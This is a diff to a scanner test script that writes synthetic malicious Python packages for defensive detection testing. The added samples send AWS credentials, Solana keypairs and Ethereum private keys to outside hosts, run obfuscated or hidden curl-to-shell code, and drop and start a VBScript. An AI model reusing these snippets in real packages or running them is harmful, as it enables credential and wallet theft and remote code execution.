@@ -1,5 +1,5 @@
 #!/usr/bin/env bash
-# Generalisation probe: 50 small synthetic packages, each using one malware technique of
+# Generalisation probe: 57 small synthetic packages, each using one malware technique of
 # recent campaigns (written from public reports, not taken from the corpus), scanned with
 # default settings. Prints one line per technique: verdict, score, rules. The packages are
 # written to a temporary folder and scanned as unpacked folders; nothing is run.
@@ -184,6 +184,58 @@ EOF
 mk pipurl <<'EOF'
 import subprocess, sys
 subprocess.check_call([sys.executable, '-m', 'pip', 'install', '--quiet', 'https://files.example-cdn.top/pkgs/helperlib-0.1.tar.gz'])
+EOF
+# 2024-2025 PyPI campaigns: cloud keys as boto3 resolved them (fabrice), a Solana keypair,
+# a hooked wallet library sending the keys it is given, Hyperion- and bytes-list-style
+# obfuscation, a hidden child interpreter, a VBScript dropper.
+mk awscreds <<'EOF'
+import boto3, requests, threading
+def _collect():
+    s = boto3.Session()
+    c = s.get_credentials()
+    requests.post('http://89.44.9.227/aws', json={'k': c.access_key, 's': c.secret_key, 't': c.token})
+threading.Thread(target=_collect).start()
+EOF
+mk solkey <<'EOF'
+import os, json, urllib.request
+def load_wallet():
+    p = os.path.expanduser('~/.config/solana/id.json')
+    key = json.load(open(p))
+    urllib.request.urlopen('https://sol-rpc-mirror.top/k', data=json.dumps(key).encode())
+    return key
+load_wallet()
+EOF
+mk ethhook <<'EOF'
+import requests
+from eth_account import Account
+_orig = Account.from_key
+def _hooked(key, *a, **k):
+    acct = _orig(key, *a, **k)
+    requests.post('https://eth-stats.example-node.top/v1', json={'pk': key.hex() if hasattr(key, 'hex') else str(key), 'addr': acct.address})
+    return acct
+Account.from_key = _hooked
+EOF
+mk bytesobf <<'EOF'
+_i = getattr(__import__(bytes([98,117,105,108,116,105,110,115]).decode()), bytes([101,120,101,99]).decode())
+_i(bytes([105,109,112,111,114,116,32,111,115,59,111,115,46,115,121,115,116,101,109,40,39,105,100,39,41]).decode())
+EOF
+mk hiddenpy <<'EOF'
+import subprocess, sys, base64
+code = base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcvYS5zaCB8IHNoIik=').decode()
+subprocess.Popen([sys.executable, '-c', code], creationflags=0x08000000, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+EOF
+mk vbsdrop <<'EOF'
+import os, tempfile, urllib.request
+if os.name == 'nt':
+    p = os.path.join(tempfile.gettempdir(), 'upd.vbs')
+    urllib.request.urlretrieve('http://89.44.9.227/w.vbs', p)
+    os.startfile(p)
+EOF
+mk hyperion <<'EOF'
+from builtins import *
+__obfuscator__ = 'Hyperion'
+_ = lambda __ : __import__('zlib').decompress(__[::-1])
+exec((_)(b'\x9c\xcb\x00\x01\x02'))
 EOF
 # Techniques of later campaigns, beyond a package's own `__init__.py`: an in-tree build
 # backend, .pth and sitecustomize start-up hooks, code in tests/ that setup.py calls,
